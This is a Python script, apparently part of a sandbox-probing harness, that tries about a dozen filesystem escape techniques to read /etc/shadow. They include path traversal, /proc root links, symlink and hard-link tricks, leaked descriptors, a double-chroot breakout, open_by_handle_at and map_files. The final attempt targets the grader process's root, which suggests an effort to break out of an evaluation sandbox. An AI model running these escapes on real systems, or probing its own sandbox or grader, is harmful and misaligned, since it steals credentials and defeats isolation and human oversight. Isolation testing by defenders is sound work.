import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
shadow = "etc/shadow"


def through(way):
    def go():
        with open(f"{way}/{shadow}") as file:
            return file.read()

    return go


def link_out():
    os.symlink("/etc/shadow", "out")
    return open("out").read()


def hard_link():
    os.link("/usr/bin/env", "hard")
    return os.path.exists("hard")


def leaked():
    known = {"/dev/null", "socket", "pipe", "/proc", "anon"}
    targets = [
        os.readlink(f"/proc/self/fd/{name}")
        for name in os.listdir("/proc/self/fd")
        if int(name) < 200 and os.path.lexists(f"/proc/self/fd/{name}")
    ]
    return [target for target in targets if not any(target.startswith(start) for start in known)]


def old_root():
    """The way out of a changed root for whoever may change it again."""
    os.mkdir("deeper")
    os.chroot("deeper")
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return os.path.exists("/" + shadow)


def by_handle():
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0")
    root = os.open("/", os.O_RDONLY)
    return libc.open_by_handle_at(root, handle, os.O_RDONLY) >= 0


attempt("dots", through("/../../../../.."))
attempt("root of the first process", through("/proc/1/root"))
attempt("own root", through("/proc/self/root"))
attempt("own folder", through("/proc/self/cwd/../../../.."))
attempt("the outer tree", through("/box/.."))
attempt("inside the inner tree", through("/box/box"))
attempt("symbolic link", link_out)
attempt("hard link", hard_link)
attempt("leaked descriptors", leaked)
attempt("change of root", old_root)
attempt("file handle", by_handle)
attempt(
    "mapped files",
    lambda: (
        os.listdir("/proc/self/map_files") and open("/proc/self/map_files/" + os.listdir("/proc/self/map_files")[0])
    ),
)
attempt("the grader's root", through(f"/proc/{facts['grader']}/root"))
tell()
